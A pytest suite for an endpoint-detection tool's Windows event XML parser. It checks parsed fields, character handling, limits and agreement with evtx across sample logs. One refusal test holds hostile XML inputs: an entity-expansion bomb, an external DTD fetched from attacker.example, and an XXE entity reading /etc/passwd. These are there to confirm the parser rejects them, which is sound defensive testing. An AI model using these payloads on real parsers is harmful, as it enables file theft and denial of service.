"""Event XML (as EvtRender gives it) -> the record ``edr replay`` decodes, through a parser that refuses DTDs."""

from __future__ import annotations

import re
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from edr.sources.etw.eventlog_xml import MAX_DEPTH, MAX_XML_CHARS, EventXmlError, parse_event_xml
from edr.sources.replay.winlog import winlog_record_to_event
from tests.conftest import shared_path
from tests.sources.etw.standin_eventlog import windows_xml

#: A Security 4624 as Windows renders it (single quotes, 7 fraction digits, empty elements closed at once).
LOGON = (
    "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
    "<Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'/>"
    "<EventID>4624</EventID><Version>2</Version><Level>0</Level><Task>12544</Task><Opcode>0</Opcode>"
    "<Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='2026-03-01T10:00:00.1234567Z'/>"
    "<EventRecordID>987654</EventRecordID><Correlation ActivityID='{8c1ab2b4-3b22-0001-c0b2-1a8c223bdc01}'/>"
    "<Execution ProcessID='812' ThreadID='4432'/><Channel>Security</Channel><Computer>DC01.corp.example</Computer>"
    "<Security/></System><EventData><Data Name='SubjectUserSid'>S-1-5-18</Data>"
    "<Data Name='TargetUserName'>alice</Data><Data Name='TargetDomainName'>CORP</Data>"
    "<Data Name='LogonType'>3</Data><Data Name='IpAddress'>10.0.0.5</Data><Data Name='IpPort'>50212</Data>"
    "<Data Name='AuthenticationPackageName'>NTLM</Data><Data Name='WorkstationName'/></EventData></Event>"
)


def test_a_security_logon_as_windows_renders_it() -> None:
    parsed = parse_event_xml(LOGON)
    assert not parsed.repaired
    event = parsed.record["Event"]
    assert event["#attributes"] == {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"}
    system = event["System"]
    assert system["Provider"] == {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing",
                                                  "Guid": "{54849625-5478-4994-a5ba-3e3b0328c30d}"}}
    assert system["TimeCreated"] == {"#attributes": {"SystemTime": "2026-03-01T10:00:00.1234567Z"}}
    assert (system["EventID"], system["EventRecordID"], system["Security"]) == ("4624", "987654", "")
    assert event["EventData"] == {"SubjectUserSid": "S-1-5-18", "TargetUserName": "alice", "TargetDomainName": "CORP",
                                  "LogonType": "3", "IpAddress": "10.0.0.5", "IpPort": "50212",
                                  "AuthenticationPackageName": "NTLM", "WorkstationName": ""}

    decoded = winlog_record_to_event(parsed.record, "")
    assert (decoded.category, decoded.service, decoded.product) == ("winlog", "security", "windows")
    assert decoded.timestamp == pytest.approx(1772359200.123456)
    assert decoded.fields["EventID"] == 4624 and decoded.fields["LogonType"] == "3"
    assert decoded.fields["Provider_Name"] == "Microsoft-Windows-Security-Auditing"
    assert decoded.origin is not None and decoded.origin["winlog.record_id"] == 987654


def test_user_data_and_unnamed_data_take_the_evtx_shapes() -> None:
    cleared = ("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><EventID>1102</EventID>"
               "<TimeCreated SystemTime='2026-03-01T10:00:00Z'/><Channel>Security</Channel></System><UserData>"
               "<LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'>"
               "<SubjectUserName>admin01</SubjectUserName><BackupPath/></LogFileCleared></UserData></Event>")
    user_data = parse_event_xml(cleared).record["Event"]["UserData"]
    assert user_data == {"LogFileCleared": {
        "#attributes": {"xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"},
        "SubjectUserName": "admin01", "BackupPath": ""}}
    assert winlog_record_to_event(parse_event_xml(cleared).record, "").fields["SubjectUserName"] == "admin01"

    def classic(*data: str) -> Any:
        items = "".join(f"<Data>{d}</Data>" for d in data)
        return parse_event_xml(f"<Event><System><EventID>800</EventID></System><EventData>{items}<Binary/>"
                               "</EventData></Event>").record["Event"]["EventData"]

    assert classic("one") == {"Data": {"#text": "one"}, "Binary": ""}
    assert classic("one", "two", "") == {"Data": {"#text": ["one", "two", ""]}, "Binary": ""}
    repeated = parse_event_xml("<Event><UserData><X><Item>a</Item><Item>b</Item><Item>c</Item></X></UserData>"
                               "</Event>").record["Event"]["UserData"]["X"]
    assert repeated == {"Item": ["a", "b", "c"]}


def test_values_keep_what_windows_wrote() -> None:
    """CR LF stays CR LF (an XML parser would make it LF), a control character XML forbids is kept."""
    crlf = "<Event><EventData><Data Name='ScriptBlockText'>line 1\r\nline 2\r\n</Data></EventData></Event>"
    assert parse_event_xml(crlf).record["Event"]["EventData"]["ScriptBlockText"] == "line 1\r\nline 2\r\n"
    escaped = "<Event><EventData><Data Name='V'>a&#13;&#10;b &amp; &lt;c&gt;</Data></EventData></Event>"
    assert parse_event_xml(escaped).record["Event"]["EventData"]["V"] == "a\r\nb & <c>"

    for control in ("\x02", "&#2;", "&#x2;"):
        # Security 4661's PrivilegeList holds "\x94\x02-" in the attack samples
        parsed = parse_event_xml(f"<Event><EventData><Data Name='PrivilegeList'>\x94{control}-</Data>"
                                 f"<Data Name='Attr'>x</Data></EventData></Event>")
        assert parsed.repaired
        assert parsed.record["Event"]["EventData"] == {"PrivilegeList": "\x94\x02-", "Attr": "x"}
    nul = parse_event_xml("<Event><EventData><Data Name='N'>a&#0;b\x0b</Data></EventData></Event>")
    assert nul.record["Event"]["EventData"]["N"] == "a\x00b\x0b"
    # text that already holds the parking range cannot park: the forbidden characters become U+FFFD
    parked = parse_event_xml("<Event><EventData><Data Name='N'>\U0010ff41\x02</Data></EventData></Event>")
    assert parked.record["Event"]["EventData"]["N"] == "\U0010ff41\ufffd"


def test_broken_utf16_becomes_replacement_characters() -> None:
    """A lone surrogate (a provider's broken UTF-16) cannot be encoded by any writer downstream."""
    parsed = parse_event_xml("<Event><EventData><Data Name='N'>a\ud800b\U0001f600</Data></EventData></Event>")
    assert parsed.repaired
    assert parsed.record["Event"]["EventData"]["N"] == "a\ufffdb\U0001f600"


@pytest.mark.parametrize(("text", "message"), [
    ("<?xml version='1.0'?><!DOCTYPE Event [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;'>]>"
     "<Event><EventData><Data Name='x'>&b;</Data></EventData></Event>",
     "has a document type declaration (refused: event XML never declares entities)"),
    ("<!DOCTYPE Event SYSTEM 'http://attacker.example/x.dtd'><Event/>", "has a document type declaration"),
    ("<!DOCTYPE Event [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><Event><System>&xxe;</System></Event>",
     "has a document type declaration"),
    ("<Event><EventData><Data Name='x'>&undeclared;</Data></EventData></Event>",
     "not well-formed XML: undefined entity at line 1, column 33"),
    ("<Event><System><EventID>1</System></Event>", "not well-formed XML: mismatched tag at line 1, column 27"),
    ("<Event><System></System>", "not well-formed XML: no element found at line 1, column 24"),
    ("", "not well-formed XML: no element found at line 1, column 0"),
    ("<Events><Event/></Events>", "the root element is <Events>, not <Event>"),
    ("<Event/>", "<Event> has no elements"),
    ("<Event>" + "<a>" * MAX_DEPTH + "</a>" * MAX_DEPTH + "</Event>",
     f"elements nested deeper than {MAX_DEPTH} levels"),
])
def test_what_is_refused_says_why(text: str, message: str) -> None:
    with pytest.raises(EventXmlError) as info:
        parse_event_xml(text)
    assert str(info.value).startswith(message)


def test_size_and_type_limits() -> None:
    with pytest.raises(EventXmlError, match=r"event XML of 4,194,305 characters \(at most 4,194,304 are read\)"):
        parse_event_xml("<Event>" + "x" * (MAX_XML_CHARS - 14) + "</Event>")
    with pytest.raises(EventXmlError, match="event XML is bytes, not text"):
        parse_event_xml(b"<Event/>")  # type: ignore[arg-type]


def _texts(value: Any) -> Any:
    """The record as Windows' XML can say it: every scalar as its text, NULL as empty text."""
    if isinstance(value, dict):
        return {k: _texts(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_texts(v) for v in value]
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


@pytest.mark.shared
@pytest.mark.slow
def test_every_sample_record_parses_to_the_record_evtx_decodes() -> None:
    """All attack and regression samples: the XML of each record parses to what ``evtx`` makes of it as JSON.

    Equal after the two things XML cannot say (module docstring): values as text, NULL as empty.
    """
    import evtx
    import orjson

    files = sorted(shared_path("evtx-attack-samples").rglob("*.evtx"))
    files += sorted(shared_path("sigma-regression").rglob("*.evtx"))
    compared = 0
    repaired = 0
    differences: Counter[str] = Counter()
    for path in files:
        as_json = [orjson.loads(r["data"]) for r in evtx.PyEvtxParser(str(path)).records_json()]
        as_xml = [r["data"] for r in evtx.PyEvtxParser(str(path)).records()]
        assert len(as_json) == len(as_xml), path
        for expected, xml in zip(as_json, as_xml, strict=True):
            parsed = parse_event_xml(windows_xml(xml))
            repaired += parsed.repaired
            compared += 1
            if parsed.record != _texts(expected):
                differences[f"{Path(path).name}: {re.sub(r'[0-9]+', 'N', str(sorted(expected['Event'])))}"] += 1
    assert compared > 8000
    assert not differences, differences.most_common(10)
    assert repaired == 20  # the 4661 events whose PrivilegeList holds a control character
